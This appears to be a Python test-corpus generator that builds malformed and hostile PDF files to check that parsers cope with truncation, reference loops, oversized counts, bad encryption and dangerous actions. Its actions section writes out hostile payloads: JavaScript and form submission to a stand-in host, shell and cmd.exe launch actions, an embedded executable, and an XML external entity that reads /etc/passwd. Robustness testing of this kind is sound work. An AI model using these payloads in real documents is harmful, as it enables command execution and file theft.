"""Hostile PDF files by their objects and references; what each breaks is its name."""

from __future__ import annotations

import io
import random
import re
import zlib
from collections.abc import Iterator, Sequence

Files = Iterator[tuple[str, bytes]]

HUGE = 2**31 - 1
SENTENCES = (
    "The Ministry shall open twelve service centres for migrant workers.",
    "Each centre gives advice free of charge to workers and to their families.",
    "Labour inspectors will visit every licensed agency once in twelve months.",
)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """Return the body of a stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), extra, data)


def flate(data: bytes, extra: bytes = b"") -> bytes:
    """Return the body of a deflated stream object."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + extra)


def build(objects: dict[int, bytes], trailer: bytes = b"", head: bytes = b"%PDF-1.7\n") -> bytes:
    """Return a PDF with a right cross-reference table; object 1 is the catalogue."""
    out = bytearray(head)
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %c \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        start,
    )
    return bytes(out)


def writing(sentence: str) -> bytes:
    """Return a content stream that writes a sentence twice, in lines."""
    shown = b"(%b) Tj 0 -16 Td " % sentence.encode()
    return b"BT /F1 11 Tf 72 720 Td " + 2 * shown + b"ET 72 600 400 0.5 re f"


def parts(
    contents: Sequence[bytes] = (),
    *,
    page: bytes = b"/MediaBox [0 0 595 842]",
    fonts: bytes = b"",
    resources: bytes = b"",
    catalogue: bytes = b"",
    extra: dict[int, bytes] | None = None,
) -> dict[int, bytes]:
    """Return the objects of a document: 3 the font, then page and content of each page."""
    bodies = list(contents) or [stream(writing(sentence)) for sentence in SENTENCES]
    kids = b" ".join(b"%d 0 R" % (10 + 2 * at) for at in range(len(bodies)))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue,
        2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, len(bodies)),
        3: fonts or b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for at, body in enumerate(bodies):
        objects[10 + 2 * at] = (
            b"<< /Type /Page /Parent 2 0 R %b /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> %b >> >>" % (page, 11 + 2 * at, resources)
        )
        objects[11 + 2 * at] = body
    return objects | (extra or {})


def base() -> bytes:
    """Return a sound document of three pages with an outline, labels and information."""
    outline = {
        4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        5: b"<< /Title (Service centres) /Parent 4 0 R /Dest [10 0 R /Fit] >>",
        6: b"<< /Title (Plan) /Author (Ministry) >>",
    }
    labels = b"/Outlines 4 0 R /PageLabels << /Nums [0 << /S /r >> 1 << /S /D >>] >>"
    return build(parts(catalogue=labels, extra=outline), b"/Info 6 0 R")


def truncated() -> Files:
    """Cut the sound document at 40 places and at the start of each object."""
    whole = base()
    for at in range(1, 41):
        yield f"cut-{at:02d}.pdf", whole[: at * len(whole) // 41]
    for number, found in enumerate(re.finditer(rb"\d+ 0 obj|xref|trailer|%%EOF", whole)):
        yield f"cut-object-{number:02d}.pdf", whole[: found.start()]


def mutated() -> Files:
    """Change the sound document at random places: bytes, slices, numbers, keywords."""
    whole = base()
    for seed in range(60):
        draw = random.Random(seed)
        data = bytearray(whole)
        if seed % 4 == 0:
            for _ in range(1 + seed // 4):
                data[draw.randrange(len(data))] = draw.randrange(256)
        elif seed % 4 == 1:
            at, length = draw.randrange(len(data)), draw.randrange(1, 200)
            del data[at : at + length]
        elif seed % 4 == 2:
            at, to, length = (draw.randrange(len(data)) for _ in range(3))
            data[to:to] = data[at : at + length % 400]
        else:
            numbers = list(re.finditer(rb"\d+", whole))
            for found in sorted(draw.sample(numbers, 1 + seed // 8), key=lambda f: -f.start()):
                wild = draw.choice([b"0", b"-1", b"%d" % HUGE, b"1e308", b"9" * 40])
                data[found.start() : found.end()] = wild
        yield f"mutation-{seed:02d}.pdf", bytes(data)


def trees() -> Files:
    """Loops and depths in page tree, outline, labels, structure and cross-references."""
    for name, body in {
        "kids-self": b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        "kids-loop": b"<< /Type /Pages /Kids [7 0 R 10 0 R] /Count 9 >>",
        "count-huge": b"<< /Type /Pages /Kids [10 0 R] /Count %d >>" % HUGE,
        "count-negative": b"<< /Type /Pages /Kids [10 0 R] /Count -5 >>",
        "count-none": b"<< /Type /Pages /Kids [10 0 R 12 0 R 14 0 R] >>",
        "kids-same": b"<< /Type /Pages /Kids [%b] /Count 30000 >>" % (b"10 0 R " * 30_000),
        "kids-missing": b"<< /Type /Pages /Kids [99 0 R 98 0 R] /Count 2 >>",
        "kids-numbers": b"<< /Type /Pages /Kids [1 2 3] /Count 3 >>",
    }.items():
        loop = {7: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>"}
        yield f"tree-{name}.pdf", build(parts(extra={2: body, **loop}))
    chain = {
        n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1)
        for n in range(100, 5100)
    }
    chain[5100] = b"<< /Type /Page /Parent 5099 0 R /Contents 11 0 R >>"
    top = {2: b"<< /Type /Pages /Kids [100 0 R] /Count 1 >>"}
    yield "tree-deep.pdf", build(parts(extra=top | chain))
    yield "tree-parent-loop.pdf", build(parts(page=b"/Parent 10 0 R"))
    for name, item in {
        "next-self": b"<< /Title (A) /Parent 4 0 R /Next 5 0 R >>",
        "first-up": b"<< /Title (A) /Parent 4 0 R /First 4 0 R /Next 4 0 R >>",
        "no-title": b"<< /Parent 4 0 R /Next 6 0 R >>",
        "bad-title": b"<< /Title <FEFFD800DC> /Parent 4 0 R >>",
    }.items():
        outline = {4: b"<< /First 5 0 R /Last 5 0 R /Count 1 >>", 5: item}
        yield (
            f"outline-{name}.pdf",
            build(parts(catalogue=b"/Outlines 4 0 R", extra=outline)),
        )
    deep = {n: b"<< /Title (A) /First %d 0 R /Parent 4 0 R >>" % (n + 1) for n in range(100, 9000)}
    deep[4] = b"<< /First 100 0 R >>"
    yield "outline-deep.pdf", build(parts(catalogue=b"/Outlines 4 0 R", extra=deep))
    wide = {n: b"<< /Title (A) /Next %d 0 R >>" % (n + 1) for n in range(100, 9000)}
    wide[4] = b"<< /First 100 0 R >>"
    yield "outline-wide.pdf", build(parts(catalogue=b"/Outlines 4 0 R", extra=wide))
    for name, entry, body in (
        ("labels-loop", b"/PageLabels 4 0 R", b"<< /Kids [4 0 R] >>"),
        ("structure-loop", b"/StructTreeRoot 4 0 R", b"<< /K 4 0 R /ParentTree 4 0 R >>"),
        ("names-loop", b"/Names 4 0 R", b"<< /Dests 4 0 R /Kids [4 0 R] >>"),
        ("form-loop", b"/AcroForm 4 0 R", b"<< /Fields [4 0 R] /Kids [4 0 R] >>"),
    ):
        yield f"{name}.pdf", build(parts(catalogue=entry, extra={4: body}))


def references() -> Files:
    """Cross-reference tables and streams that loop, lie or lead nowhere."""
    whole = base()
    at = whole.rindex(b"startxref")
    start = int(whole[at + 10 :].split()[0])
    head, tail = whole[:at], b"\n%%EOF\n"
    for name, value in (("far", 10**12), ("negative", -7), ("zero", 0), ("self", at)):
        yield f"xref-start-{name}.pdf", head + b"startxref\n%d" % value + tail
    for name, place in (("self", start), ("far", 10**15), ("zero", 0)):
        looped = whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)
        yield f"xref-prev-{name}.pdf", looped
    yield "xref-size-huge.pdf", re.sub(rb"/Size \d+", b"/Size %d" % HUGE, whole)
    yield "xref-section-huge.pdf", re.sub(rb"xref\n0 \d+", b"xref\n0 999999999", whole)
    yield "xref-shifted.pdf", whole.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + b"%" * 500 + b"\n")
    yield "xref-root-loop.pdf", whole.replace(b"/Root 1 0 R", b"/Root 9 0 R")
    for name, entry in (("information", b"/Info 9 0 R"), ("encryption", b"/Encrypt 9 0 R")):
        loop = {9: b"8 0 R", 8: b"9 0 R"}
        yield f"object-loop-{name}.pdf", build(parts(extra=loop), entry)
    entries = {7: stream(b"\0" * 64, b"/Type /XRef /W [1 99999999 2] /Size 9 /Root 1 0 R")}
    rows = build(parts(extra=entries))
    yield "xref-stream-wide.pdf", rows + b"startxref\n%d%b" % (rows.index(b"7 0 obj"), tail)
    held = {
        7: stream(b"8 0 << /A 1 >>", b"/Type /ObjStm /N 99999999 /First 4 /Extends 7 0 R"),
        8: b"8 0 R",
    }
    yield "object-stream-self.pdf", build(parts(extra=held, catalogue=b"/Metadata 8 0 R"))
    for name, length in {
        "self": b"11 0 R",
        "negative": b"-9",
        "huge": b"%d" % 10**18,
        "none": b"null",
        "word": b"/Name",
    }.items():
        content = b"<< /Length %b >>\nstream\n%b\nendstream" % (length, writing(SENTENCES[0]))
        yield f"length-{name}.pdf", build(parts([content]))


def actions() -> Files:
    """What a reader must not do: run, open, send, fetch, unpack."""
    for name, action in {
        "script": b"/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\))",
        "launch": b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>",
        "address": b"/S /URI /URI (http://192.0.2.1/)",
        "submit": b"/S /SubmitForm /F (http://192.0.2.1/)",
        "remote": b"/S /GoToR /F (//192.0.2.1/share/x.pdf)",
        "loop": b"/S /URI /URI (a) /Next 4 0 R",
    }.items():
        entry = b"/OpenAction 4 0 R /AA << /WC 4 0 R >>"
        yield f"action-{name}.pdf", build(parts(catalogue=entry, extra={4: b"<< %b >>" % action}))
    outside = stream(b"", b"/F (/etc/passwd) /FFilter /FlateDecode")
    yield "stream-outside.pdf", build(parts([outside]))
    held = b"/Names << /EmbeddedFiles << /Names [(x.exe) << /F (x.exe) /EF << /F 4 0 R >> >>] >> >>"
    yield "file-inside.pdf", build(parts(catalogue=held, extra={4: stream(b"MZ" * 99)}))
    laughs = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    for entry in (b"Metadata", b"AcroForm"):
        body = stream(laughs, b"/Type /Metadata /Subtype /XML /XFA 4 0 R")
        yield (
            f"xml-{entry.decode().lower()}.pdf",
            build(parts(catalogue=b"/%b 4 0 R" % entry, extra={4: body})),
        )


def heads() -> Files:
    """Files that begin or go on otherwise than a PDF should."""
    whole = base()
    yield "head-after-1000.pdf", b"\n" * 1000 + whole
    yield "head-after-1100.pdf", b"\n" * 1100 + whole
    yield "head-alone.pdf", b"%PDF-1.7"
    yield "head-wrong.pdf", whole.replace(b"%PDF-1.7", b"%PDF-9.9")
    yield "two-in-one.pdf", whole + whole
    yield "sound.pdf", whole
    yield "text-about-pdf.txt", b"The mark %PDF- begins a file.\n" + b"A sentence follows. " * 40
    for name, lock in {
        "bad-handler": b"/Filter /Nothing /V 99",
        "bad-keys": b"/Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -1 /Length 99999",
        "negative-length": b"/Filter /Standard /V 1 /R 2 /O (x) /U (y) /P 0 /Length -8",
    }.items():
        trailer = b"/Encrypt 9 0 R /ID [<00> <00>]"
        yield f"locked-{name}.pdf", build(parts(extra={9: b"<< %b >>" % lock}), trailer)
    yield from _encrypted()


def _encrypted() -> Files:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    for name, password in (("user", "secret"), ("owner", "")):
        for strength in (40, 128):
            lock = StandardEncryption(password, ownerPassword="owner", strength=strength)
            buffer = io.BytesIO()
            canvas = Canvas(buffer, invariant=1, encrypt=lock)
            canvas.drawString(72, 700, SENTENCES[0])
            canvas.save()
            yield f"locked-{name}-{strength}.pdf", buffer.getvalue()


KINDS = {
    "truncated": truncated,
    "mutated": mutated,
    "trees": trees,
    "references": references,
    "actions": actions,
    "heads": heads,
}
